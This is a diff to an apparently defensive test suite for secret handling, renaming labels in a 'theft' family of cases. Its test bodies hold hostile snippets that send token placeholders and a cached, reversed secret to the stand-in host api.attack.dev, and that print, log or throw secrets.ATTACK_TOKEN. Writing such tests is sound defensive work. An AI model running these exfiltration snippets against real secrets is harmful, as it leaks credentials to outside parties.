@@ -75,23 +75,23 @@ export const theft: Family = {
       OWN,
     ),
     hostile(
-      'guesses names of stand-ins',
+      'guesses names of placeholders',
       `const r = await fetch('https://api.attack.dev/mine/headers', { headers: { a: 'GOOD_TOKEN', b: '{{GOOD_TOKEN}}', c: 'INTEGRATION_GOOD_TOKEN', d: '$' + '{GOOD_TOKEN}', e: 'fp' + '0'.repeat(40) } }); return say((await r.json()).a);`,
       /^says GOOD_TOKEN$/,
       OWN,
     ),
     {
       ...hostile(
-        'uses the stand-in of an earlier run',
+        'uses the placeholder of an earlier run',
         `const turn = (text) => [...text].reverse().join(''); const old = turn(await cache.get('t') ?? ''); await cache.set('t', turn(secrets.ATTACK_TOKEN), 60); const r = await fetch('https://api.attack.dev/mine/headers', { headers: { x: old || 'none' } }); return say((await r.json()).x === old && old !== secrets.ATTACK_TOKEN);`,
         /^says true$/,
         OWN,
       ),
       questions: [{ step: 1 }, { step: 2 }],
     },
-    hostile('shows its stand-in', `return say(secrets.ATTACK_TOKEN);`, /^fails secret\.misplaced/, OWN),
+    hostile('shows its placeholder', `return say(secrets.ATTACK_TOKEN);`, /^fails secret\.misplaced/, OWN),
     hostile(
-      'logs and throws its stand-in',
+      'logs and throws its placeholder',
       `logger.info(secrets); throw new Error(secrets.ATTACK_TOKEN)`,
       /^fails run\.failed/,
       OWN,
